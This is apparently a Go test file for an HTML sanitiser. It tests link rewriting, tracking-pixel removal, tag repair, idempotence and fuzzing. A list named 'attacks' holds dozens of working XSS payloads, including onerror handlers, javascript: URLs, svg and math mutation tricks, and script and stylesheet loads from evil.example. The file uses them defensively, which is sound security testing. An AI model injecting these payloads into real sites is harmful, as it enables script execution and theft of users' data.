package extract

import (
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	nethtml "golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

const rel = ` rel="nofollow noopener noreferrer"`

func TestSanitize(t *testing.T) {
	s := NewSanitizer()
	for _, tt := range []struct{ name, in, want string }{
		{"plain text", "R&D: a < b", "R&amp;D: a &lt; b"},
		{"kept", `<p lang="en">A <strong>b</strong><br>c</p><ul><li>d</li></ul>`, `<p lang="en">A <strong>b</strong><br/>c</p><ul><li>d</li></ul>`},
		{"relative link", `<a href="../x?a=1&b=2#c">l</a>`, `<a href="https://example.org/x?a=1&amp;b=2#c"` + rel + `>l</a>`},
		{"link to a place in the article", `<a href="#fn1">1</a>`, `<a href="https://example.org/a/b#fn1"` + rel + `>1</a>`},
		{"the publisher's relation gives way", `<a rel="opener" target="_top" href="https://o.example/">l</a>`, `<a href="https://o.example/"` + rel + `>l</a>`},
		{"mail", `<a href="MAILTO:a@b.example?subject=x%20y">m</a>`, `<a href="mailto:a@b.example?subject=x%20y"` + rel + `>m</a>`},
		{"other schemes", `<a href="tel:1">a</a><a href="ftp://x.example/">b</a><a href="magnet:?x">c</a>`, `abc`},
		{"picture", `<img src="/i.png" alt="A: &quot;b&quot;" width="300" height="50%" class="x" id="y">`, `<img src="https://example.org/i.png" alt="A: &#34;b&#34;" width="300" height="50%"/>`},
		{"picture loaded by a script", `<img src="data:image/gif;base64,R0l" data-src="/real.jpg">`, `<img src="https://example.org/real.jpg"/>`},
		{"candidates", `<img src="/a.png" srcset="/a.png 480w, b,c.png 1.5x,/d.png 3x,javascript:x 2x, /e bad, /f,/g">`,
			`<img src="https://example.org/a.png" srcset="https://example.org/a.png 480w, https://example.org/a/b,c.png 1.5x, https://example.org/d.png 3x, https://example.org/f,/g"/>`},
		{"tracking pixels", `a<img src="https://t.example/p.gif" width="1" height="1"><img src="https://t.example/q" height="0"><img src="https://t.example/r" style="display: none"><img src="https://t.example/s" width="1px" height="1px">b`, `ab`},
		{"a thin picture is no pixel", `<img src="https://t.example/line.gif" width="600" height="1">`, `<img src="https://t.example/line.gif" width="600" height="1"/>`},
		{"video", `<video src="/v.mp4" poster="/p.jpg" controls autoplay onplay="x()"><source src="w.webm" type="video/webm"><source type="x"></video>`,
			`<video src="https://example.org/v.mp4" poster="https://example.org/p.jpg"><source src="https://example.org/a/w.webm" type="video/webm"/></video>`},
		{"quotation", `<blockquote cite="/q">a</blockquote><q cite="javascript:x">b</q>`, `<blockquote cite="https://example.org/q">a</blockquote><q>b</q>`},
		{"XHTML's empty elements", `<p>a<i/>b<a name="x"/><iframe src="x"/>c</p>`, `<p>a<i></i>bc</p>`},
		{"stray end tags", `</div></p>a</b></table>`, `a`},
		{"what is open is closed", `<div><p>a<b>b`, `<div><p>a<b>b</b></p></div>`},
		{"crossed tags", `<b>a<i>b</b>c</i>d`, `<b>a<i>b</i></b>cd`},
		{"optional end tags", `<p>a<p>b<ul><li>c<li>d</ul><table><tr><td>e<td>f<tr><td>g</table>`,
			`<p>a</p><p>b</p><ul><li>c</li><li>d</li></ul><table><tr><td>e</td><td>f</td></tr><tr><td>g</td></tr></table>`},
		{"cells without a row, text without a cell", `<table>a<td>b</table><td>c`, `<table><tr><td>a</td><td>b</td></tr></table>c`},
		{"a block ends a paragraph, whatever is open in it", `<p><b>a<div>b</div>c`, `<p><b>a</b></p><div>b</div>c`},
		{"links and headings do not nest", `<a href="/1">a<b>b<a href="/2">c</a><h1>d<i><h2>e`,
			`<a href="https://example.org/1"` + rel + `>a<b>b</b></a><a href="https://example.org/2"` + rel + `>c</a><h1>d<i></i></h1><h2>e</h2>`},
		{"control characters", "a\x00\x1b[1m&#27;&#x9b;<img alt=\"&#7;x\" src=/i>\xff", "a[1m›<img alt=\"x\" src=\"https://example.org/i\"/>\ufffd"},
		{"comments", `a<!-- b --><![CDATA[c]]><?d?><!e>f`, `af`},
		{"what stands in for what is embedded", `a<object data="/x.swf"><p>b</p></object><iframe src="/f"><em>c</em></iframe><applet>d</applet>e`, `a<p>b</p><em>c</em>de`},
		{"an object without an end", `a<object classid="clsid:1"> b`, `a b`},
		{"a paragraph ends where a block begins, within what is dropped", `<p>a<center><p>b</center>c`, `<p>a</p><p>b</p>c`},
		{"forms", `<form action="/x"><input name=a><button>go</button><textarea>t</textarea><select><option>o</select>x</form>`, `x`},
	} {
		if got := s.Sanitize(tt.in, "https://example.org/a/b"); got != tt.want {
			t.Errorf("%s\n  in %s\n got %s\nwant %s", tt.name, tt.in, got, tt.want)
		}
	}
	if got := s.Sanitize(`<a href="/x">a</a><a href="http://e.example/">b</a>`, "not absolute"); got != `a<a href="http://e.example/"`+rel+`>b</a>` {
		t.Errorf("without a base: %s", got)
	}
}

// attacks are what must not survive, whatever else does.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/><p>alert(1)</p>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" ONERROR = "alert(1)">`,
	`<iframe><script>alert(1)</script><img src=x onerror=alert(1)></iframe>`,
	`<iframe><!--</iframe><img src=/x onerror=alert(1)>-->`,
	`<object data="javascript:alert(1)"><param name=a value=b><embed src="javascript:alert(1)"></object>`,
	`<applet code=x><script>alert(1)</script>`,
	`<a href="&#106;avascript&colon;alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">y</a><a href="vbscript:x">z</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<a xlink:href="javascript:alert(1)">x</a><use href="#a"/><animate attributeName=href values=javascript:alert(1)>`,
	`<math href="javascript:alert(1)">x</math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">y</maction>`,
	`<p style="background:url(javascript:alert(1));width:expression(alert(1));-moz-binding:url(//evil.example)">x</p>`,
	`<div style="behavior:url(x.htc)" background="javascript:alert(1)" dynsrc="javascript:alert(1)">x</div>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)"><link rel=stylesheet href=//evil.example/x.css><base href="javascript:/">`,
	`<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button><input autofocus onfocus=alert(1)><isindex action=x></form>`,
	`<video poster=javascript:alert(1) src=x onerror=alert(1)><source src=javascript:alert(1) onerror=alert(1)></video>`,
	`<img srcset="javascript:alert(1) 1x, data:text/html,x 2x" src=/x><picture><source srcset="vbscript:x"></picture>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp><plaintext><img onerror=x>`,
	`<svg><style><img src=x onerror=alert(1)></style><script>alert(1)</script><foreignObject><p onclick=x>y</p></foreignObject></svg>`,
	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x<bgsound src="javascript:alert(1)"><layer src=x>`,
	`<p title="--><script>alert(1)</script>">x</p><p title='"><img src=x onerror=alert(1)>'>y</p>`,
	`<blockquote cite="javascript:alert(1)" onmouseover=alert(1) id=x class=y ping=/z srcdoc="<script>">x</blockquote>`,
	`<img """><script>alert("XSS")</script>">`,
	`<img src="javascript:alert(1)" srcset="javascript:alert(1) 1x">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
	`<iframe src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	"<a href=\" java\nscript:alert(1)\">x</a>",
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript&colon;alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="mailto:x@example.org&#10;javascript:alert(1)">x</a>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`,
	`<base href="http://evil.example/"><a href="x">y</a>`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,
	`<object data="data:text/html,x"><embed src="x.swf"></object>`,
	`<form action="http://evil.example/"><input type=password></form>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>`,
	`<title><img src=x onerror=alert(1)></title><plaintext><script>alert(1)</script>`,
	`<template><script>alert(1)</script></template><frameset onload=alert(1)><frame src="javascript:alert(1)">`,
	`<video><source onerror="alert(1)" src="javascript:alert(1)"></video>`,
	`<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`]]><script>alert(1)</script>`,
	`&#x26;lt;script&gt;alert(1)`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<a href="http://e.example/" onclick=alert(1) href="javascript:alert(1)">x</a>`,
	`<img alt="` + "`" + `><script>alert(1)</script>" src=/x>`,
	`</div></body></html><script>alert(1)</script>`,
	`<p title='"><script>alert(1)</script>'>x`,
}

func TestSanitizeAttacks(t *testing.T) {
	s := NewSanitizer()
	for _, in := range attacks {
		got := s.Sanitize(in, "https://example.org/a")
		if bad := unsafe(got); bad != "" {
			t.Errorf("%s\n  in %s\n got %s", bad, in, got)
		}
		if again := s.Sanitize(got, "https://example.org/a"); again != got {
			t.Errorf("not idempotent\n  in %s\nonce %s\n twice %s", in, got, again)
		}
	}
}

// A parser that mends nothing writes the fragment as it read it.
func TestSanitizeConforms(t *testing.T) {
	s := NewSanitizer()
	rng := rand.New(rand.NewPCG(1, 2))
	names := strings.Fields("p p div section blockquote pre h1 h2 ul ol li dl dt dd table caption thead tbody tr tr td td th hr " +
		"a a b i em strong code small span q cite del ins ruby rt rp details summary figure figcaption picture address br wbr sub")
	for range 8_000 {
		var in strings.Builder
		for range 1 + rng.IntN(14) {
			switch name := names[rng.IntN(len(names))]; rng.IntN(4) {
			case 0:
				in.WriteString("</" + name + ">")
			case 1:
				in.WriteString(" x ")
			default:
				in.WriteString("<" + name + ` href="https://a.example/">`)
			}
		}
		checkConforms(t, in.String(), s.Sanitize(in.String(), "https://example.org/"))
	}
}

func checkConforms(t *testing.T, in, out string) {
	t.Helper()
	body := &nethtml.Node{Type: nethtml.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := nethtml.ParseFragment(strings.NewReader(out), body)
	if err != nil {
		t.Fatal(err)
	}
	var again strings.Builder
	for _, n := range nodes {
		if err := nethtml.Render(&again, n); err != nil {
			t.Fatal(err)
		}
	}
	if !slices.Equal(tokens(again.String()), tokens(out)) {
		t.Fatalf("a parser mends it\n  in %q\n out %s\nread %s", in, out, again.String())
	}
}

// tokens are the tags and texts of a fragment, in a form in which what a parser may
// change is alike: the order of attributes, a <tbody> around rows, the first line break
// of a <pre>.
func tokens(markup string) (all []string) {
	z := nethtml.NewTokenizer(strings.NewReader(strings.ReplaceAll(markup, "<pre>\n", "<pre>")))
	for z.Next() != nethtml.ErrorToken {
		tok := z.Token()
		slices.SortFunc(tok.Attr, func(a, b nethtml.Attribute) int { return strings.Compare(a.Key, b.Key) })
		if tok.Type == nethtml.SelfClosingTagToken {
			tok.Type = nethtml.StartTagToken
		}
		if tok.Type == nethtml.TextToken || tok.Data != "tbody" {
			all = append(all, tok.String())
		}
	}
	return all
}

// unsafe says what is wrong with published HTML, or "". It looks with the parser
// that browsers' behaviour defines, not with the sanitiser's own eyes.
func unsafe(s string) string {
	if !utf8.ValidString(s) {
		return "no UTF-8"
	}
	body := &nethtml.Node{Type: nethtml.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := nethtml.ParseFragment(strings.NewReader(s), body)
	if err != nil {
		return err.Error()
	}
	bad := ""
	var visit func(n *nethtml.Node)
	visit = func(n *nethtml.Node) {
		if n.Type == nethtml.CommentNode || n.Type == nethtml.DoctypeNode {
			bad = "a comment"
		}
		if n.Type == nethtml.ElementNode {
			if neverShown(n.Data) || n.Namespace != "" || strings.Contains(" meta base link form input ", " "+n.Data+" ") {
				bad = "an element " + n.Data
			}
			for _, a := range n.Attr {
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "id", a.Key == "class":
					bad = "an attribute " + a.Key
				case a.Key == "href", a.Key == "src", a.Key == "poster", a.Key == "cite":
					u, err := url.Parse(a.Val)
					if err != nil || u.Scheme != "http" && u.Scheme != "https" && (u.Scheme != "mailto" || a.Key != "href") {
						bad = "a URL " + a.Val
					}
				}
			}
		}
		for c := range n.ChildNodes() {
			visit(c)
		}
	}
	for _, n := range nodes {
		visit(n)
	}
	return bad
}

// What is quadratic in these does not end within the time of a test run.
func TestSanitizeOfHostileNesting(t *testing.T) {
	s := NewSanitizer()
	const n = 200_000
	for name, in := range map[string]string{
		"elements":   strings.Repeat("<div>", n),
		"paragraphs": strings.Repeat("<p><b>", n/2),
		"ends":       strings.Repeat("<div>", 300) + strings.Repeat("</p>", n),
		"skipped":    strings.Repeat("<svg>", n),
		"links":      strings.Repeat("<a>", n),
		"attributes": "<p " + strings.Repeat("a ", n) + ">",
		"candidates": `<img src="x" srcset="` + strings.Repeat("a 1x,", n/10) + `">`,
		"commas":     `<img src="x" srcset="` + strings.Repeat("a,", n) + `">`,
		"entities":   strings.Repeat("&amp;", n),
	} {
		out := s.Sanitize(in, "https://example.org/")
		if bad := unsafe(out); bad != "" {
			t.Errorf("%s: %s", name, bad)
		}
	}
}

func TestSanitizeBoundsGrowth(t *testing.T) {
	s := NewSanitizer()
	base := "https://example.org/" + strings.Repeat("a/", 3000)
	for name, piece := range map[string]string{
		"ampersands": "&",
		"quotes":     `"`,
		"characters": "\u00e9'",
		"links":      `<a href="x">y</a>`,
		"pictures":   `<img src="x">`,
		"candidates": `<img src="x" srcset="` + strings.Repeat("a 1x,", 1000) + `">`,
		"a title":    `<b title="` + strings.Repeat(`'`, 60<<10) + `">`,
	} {
		for _, n := range []int{1, 1000, 200_000} {
			in := strings.Repeat(piece, max(1, n/len(piece)))
			got := s.Sanitize(in, base)
			// The last tag, or piece of a text, may go beyond.
			if most := min(8*len(in)+16<<10, len(in)+4<<20) + 512<<10; len(got) > most || got == "" {
				t.Errorf("%s: %d bytes of %d; at most %d", name, len(got), len(in), most)
			}
			if again := s.Sanitize(got, base); again != got {
				t.Errorf("%s, %d bytes: not idempotent", name, len(in))
			}
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, in := range attacks {
		f.Add(in)
	}
	f.Add(`<img src="a" srcset="a 1x, b,c 2w"><p>a<p>b<table><tr><td>c<td>d`)
	f.Add("<Xmp><A\x99><B\x7f>")
	f.Add("<ul><li>a<li>b</ul><a href='//e.example/%zz?%'>c")
	s := NewSanitizer()
	f.Fuzz(func(t *testing.T, in string) {
		got := s.Sanitize(in, "https://example.org/a/b")
		if bad := unsafe(got); bad != "" {
			t.Fatalf("%s\n  in %q\n got %q", bad, in, got)
		}
		checkConforms(t, in, got)
		if again := s.Sanitize(got, "https://example.org/other"); again != got {
			t.Fatalf("not idempotent\n   in %q\n once %q\ntwice %q", in, got, again)
		}
	})
}
